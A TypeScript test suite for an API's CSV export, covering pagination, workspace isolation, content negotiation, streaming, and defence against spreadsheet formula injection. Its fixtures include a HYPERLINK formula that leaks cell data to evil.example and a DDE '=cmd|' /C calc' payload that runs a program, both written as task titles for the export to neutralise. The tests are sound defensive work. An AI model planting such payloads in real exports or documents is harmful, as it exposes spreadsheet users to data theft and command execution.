// db-scope: both

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { API_PREFIX } from '../../src/api/index.ts';
import { newId } from '../../src/shared/ids.ts';
import { type ApiFixture, startApiFixture, walkPages } from '../helpers/api.ts';
import { testDialect } from '../helpers/database.ts';

const CSV = { accept: 'text/csv' };
/** Small pages, so a few dozen rows take several queries. */
const SMALL_PAGES = { env: { API_EXPORT_PAGE_SIZE: '7' } };

/** RFC 4180: fields separated by commas, quoted when they hold a comma, quote or line break. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  assert.equal(field + row.join(''), '', 'the file ends with CRLF');
  return rows;
}

/** The export of `path` as header and rows keyed by header, after checking the answer's headers. */
async function exportOf(api: ApiFixture, path: string, list: string) {
  const response = await api.call('GET', path, { headers: CSV });
  assert.equal(response.status, 200, String(response.body));
  assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
  assert.equal(
    response.headers.get('content-disposition'),
    `attachment; filename="${list}-${api.org.workspaceId}-2026-03-01.csv"`,
  );
  assert.match(response.headers.get('vary') ?? '', /accept/i);
  const [header = [], ...lines] = parseCsv(response.body);
  for (const line of lines) assert.equal(line.length, header.length);
  const rows = lines.map((line) => Object.fromEntries(header.map((name, i) => [name, line[i] as string])));
  return { header, rows };
}

const HOSTILE_TITLES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\tTabbed',
  'Commas, "quotes"\nand a new line',
];

describe(`CSV export of the lists on ${testDialect}`, () => {
  it('exports every task the filters match, over many pages, with formulas neutralised', async (t) => {
    const api = await startApiFixture(t, SMALL_PAGES);
    const other = await api.createOrganization('Other Ltd');
    await api.call('POST', '/tasks', { key: other.key, json: { title: 'Not ours' } });
    const ids: string[] = [];
    for (let n = 0; n < 24; n++) {
      const title = HOSTILE_TITLES[n] ?? `Task ${n}`;
      const created = await api.call('POST', '/tasks', { json: { title, due_date: '2026-06-30' } });
      assert.equal(created.status, 201);
      ids.push(created.body.id);
    }
    for (const id of ids.slice(0, 9))
      assert.equal((await api.call('PATCH', `/tasks/${id}`, { json: { status: 'completed' } })).status, 200);

    const all = await exportOf(api, '/tasks?limit=1', 'tasks');
    assert.deepEqual(all.header, [
      'id',
      'title',
      'description',
      'status',
      'due_date',
      'assignee_id',
      'control_id',
      'completed_at',
      'created_at',
      'updated_at',
    ]);
    const listed = await walkPages<{ id: string }>(api, '/tasks?limit=5');
    assert.equal(all.rows.length, 24, '`limit` is ignored; every page is exported');
    assert.deepEqual(
      all.rows.map((row) => row.id),
      listed.items.map((task) => task.id),
      'the rows of the list, in its order, of this workspace only',
    );
    const titleOf = (id: string | undefined) => all.rows.find((row) => row.id === id)?.title;
    assert.deepEqual(ids.slice(0, 6).map(titleOf), [
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
      "'+1",
      "'-2",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      'Commas, "quotes"\nand a new line',
    ]);
    const completed = all.rows.find((row) => row.id === ids[0]);
    assert.equal(completed?.status, 'completed');
    assert.equal(completed?.completed_at, '2026-03-01T12:00:00.000Z');
    assert.equal(completed?.assignee_id, '', 'null is an empty cell');
    assert.equal(completed?.due_date, '2026-06-30');

    const open = await exportOf(api, '/tasks?status=open', 'tasks');
    assert.deepEqual(
      open.rows.map((row) => row.id),
      ids.slice(9),
    );
    const none = await api.call('GET', '/tasks?assignee_id=per_nobody', { headers: CSV });
    assert.equal(none.body, `${all.header.join(',')}\r\n`, 'a header row, also for an empty list');
  });

  it('exports the controls with their filters, past the cached JSON page of the same URL', async (t) => {
    const api = await startApiFixture(t, SMALL_PAGES);
    const listed = await walkPages<{ id: string; theme: string }>(api, '/controls?limit=200');
    const [first, second] = listed.items;
    await api.call('PATCH', `/controls/${first?.id}`, { json: { notes: '=1+1, "owned", see\r\nwiki' } });
    await api.call('PATCH', `/controls/${second?.id}`, { json: { status: 'implemented' } });

    const json = await api.call('GET', '/controls?theme=people');
    assert.equal(json.status, 200);
    assert.match(json.headers.get('vary') ?? '', /accept/i);
    const people = await exportOf(api, '/controls?theme=people', 'controls');
    assert.deepEqual(
      people.rows.map((row) => row.id),
      json.body.data.map((control: { id: string }) => control.id),
    );
    assert.ok(people.rows.every((row) => row.theme === 'people'));

    const all = await exportOf(api, '/controls', 'controls');
    assert.deepEqual(all.header, [
      'id',
      'reference',
      'title',
      'theme',
      'status',
      'owner_id',
      'notes',
      'justification',
      'created_at',
      'updated_at',
    ]);
    assert.equal(all.rows.length, 93);
    assert.equal(all.rows[0]?.notes, `'=1+1, "owned", see\r\nwiki`);
    const implemented = await exportOf(api, '/controls?status=implemented', 'controls');
    assert.deepEqual(
      implemented.rows.map((row) => row.id),
      [second?.id],
    );
  });

  it("exports the risk register with its filters, only the key's workspace", async (t) => {
    const api = await startApiFixture(t, SMALL_PAGES);
    const other = await api.createOrganization('Other Ltd');
    await api.call('POST', '/risks', { key: other.key, json: { title: 'Theirs', likelihood: 5, impact: 5 } });
    const created: { id: string; severity: string }[] = [];
    for (let n = 0; n < 16; n++) {
      const title = n % 4 === 0 ? `-${n} @risk` : `Risk ${n}`;
      const response = await api.call('POST', '/risks', {
        json: { title, likelihood: (n % 5) + 1, impact: (n % 3) + 3 },
      });
      created.push(response.body);
    }
    const all = await exportOf(api, '/risks', 'risks');
    assert.equal(all.rows.length, 16);
    assert.ok(all.rows.every((row) => row.title !== 'Theirs'));
    assert.deepEqual(all.header.slice(0, 7), [
      'id',
      'title',
      'description',
      'likelihood',
      'impact',
      'score',
      'severity',
    ]);
    assert.equal(all.rows.filter((row) => row.title?.startsWith("'-")).length, 4);
    const listed = await walkPages<{ id: string }>(api, '/risks?severity=high&limit=3');
    const high = await exportOf(api, '/risks?severity=high', 'risks');
    assert.ok(high.rows.length > 0 && high.rows.length < 16);
    assert.deepEqual(
      high.rows.map((row) => row.id),
      listed.items.map((risk) => risk.id),
    );
    assert.ok(high.rows.every((row) => row.severity === 'high' && Number(row.score) >= 10));

    const theirs = await api.call('GET', '/risks', { key: other.key, headers: CSV });
    assert.equal(parseCsv(theirs.body).length, 2, "the other key sees its workspace's one risk");
  });

  it('spreads object fields into columns and joins lists of values', async (t) => {
    const api = await startApiFixture(t);
    const controls = await api.call('GET', '/controls?limit=2');
    const controlIds = controls.body.data.map((control: { id: string }) => control.id);
    await api.call('POST', '/evidence', {
      json: { title: 'Access review', url: 'https://wiki.example/review', control_ids: controlIds },
    });
    const evidence = await exportOf(api, '/evidence', 'evidence');
    assert.ok(evidence.header.includes('file.name') && evidence.header.includes('control_ids'));
    assert.equal(evidence.rows[0]?.control_ids, [...controlIds].sort().join(';'));
    assert.equal(evidence.rows[0]?.['file.name'], '');

    const audit = await exportOf(api, '/audit-events', 'audit-events');
    assert.deepEqual(
      audit.header.filter((name) => name.startsWith('actor.')),
      ['actor.user_id', 'actor.api_key_id', 'actor.label'],
    );
    const keyEvent = audit.rows.find((row) => row.action === 'api_key.created');
    assert.equal(keyEvent?.['actor.label'], 'Operator (CLI)');
  });

  it('stays JSON unless CSV is asked for, and refuses a bad filter as problem+json', async (t) => {
    const api = await startApiFixture(t);
    for (const accept of [
      undefined,
      'application/json',
      '*/*',
      'text/html',
      'image/png',
      'text/csv;q=0.5, application/json',
    ]) {
      const response = await api.call('GET', '/vendors', { headers: accept ? { accept } : {} });
      assert.equal(response.status, 200, accept);
      assert.match(response.headers.get('content-type') ?? '', /^application\/json/, accept);
      assert.deepEqual(response.body, { data: [], next_cursor: null }, accept);
    }
    const preferred = await api.call('GET', '/vendors', {
      headers: { accept: 'application/json;q=0.9, text/csv' },
    });
    assert.match(preferred.headers.get('content-type') ?? '', /^text\/csv/);
    assert.equal(
      preferred.body.split('\r\n')[0],
      'id,name,website,description,risk_level,status,owner_id,next_review_date,created_at,updated_at',
    );

    const bad = await api.call('GET', '/tasks?status=maybe', { headers: CSV });
    assert.equal(bad.status, 400);
    assert.equal(bad.headers.get('content-type'), 'application/problem+json; charset=utf-8');
    assert.equal((await api.call('GET', '/tasks', { key: null, headers: CSV })).status, 401);
    const delivery = await api.call('GET', '/hooks/hook_00000000000000000000000000', { headers: CSV });
    assert.equal(delivery.status, 404, "another workspace's or no subscription: 404 as in JSON");
  });

  it('streams 5,000 rows in chunks, a page of 500 at a time', async (t) => {
    const api = await startApiFixture(t);
    const now = api.runtime.clock.now();
    const rows = Array.from({ length: 5_000 }, (_, n) => ({
      id: newId('tsk', now),
      workspace_id: api.org.workspaceId,
      title: `=cmd|' /C calc'!A${n}`,
      description: 'x'.repeat(200),
      status: 'open' as const,
      due_date: null,
      assignee_id: null,
      control_id: null,
      completed_at: null,
      created_at: now.getTime(),
      updated_at: now.getTime(),
    }));
    for (let start = 0; start < rows.length; start += 250)
      await api.runtime.database.db
        .insertInto('tasks')
        .values(rows.slice(start, start + 250))
        .execute();

    const response = await fetch(`${api.url}${API_PREFIX}/tasks`, {
      headers: { authorization: `Bearer ${api.org.key}`, ...CSV },
    });
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('transfer-encoding'), 'chunked');
    assert.equal(response.headers.get('content-length'), null, 'written as read, never whole in memory');
    let chunks = 0;
    let text = '';
    const decoder = new TextDecoder();
    for await (const chunk of response.body ?? []) {
      chunks++;
      text += decoder.decode(chunk, { stream: true });
    }
    assert.ok(chunks > 1, `${chunks} chunks`);
    const lines = text.split('\r\n');
    assert.equal(lines.length, 5_002, 'header, 5,000 rows, and the empty tail after the last CRLF');
    assert.ok(lines.slice(1, -1).every((line) => line.includes(",'=cmd|' /C calc'!A")));
  });
});
